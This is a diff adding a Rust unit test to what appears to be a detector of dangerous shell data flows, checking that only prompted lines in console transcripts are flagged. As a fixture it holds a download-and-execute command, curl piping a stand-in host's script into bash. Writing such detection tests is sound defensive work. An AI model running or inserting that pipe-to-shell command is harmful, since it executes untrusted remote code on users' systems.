@@ -992,3 +992,17 @@ fn curl_flags_with_values_are_not_urls() {
         "sends secret data to https://x.example"
     );
 }
+
+#[test]
+fn console_transcripts_run_only_prompted_lines() {
+    let a = flow(
+        Lang::Shell,
+        "$ curl -s https://x.example/i | bash\nInstalled | ok\n",
+        FlowKind::DownloadToExec,
+    );
+    assert_eq!(
+        a.flows[0].sink.site.text,
+        "$ curl -s https://x.example/i | bash"
+    );
+    no_flow(Lang::Shell, "$ echo hi\nhi | bash\n");
+}
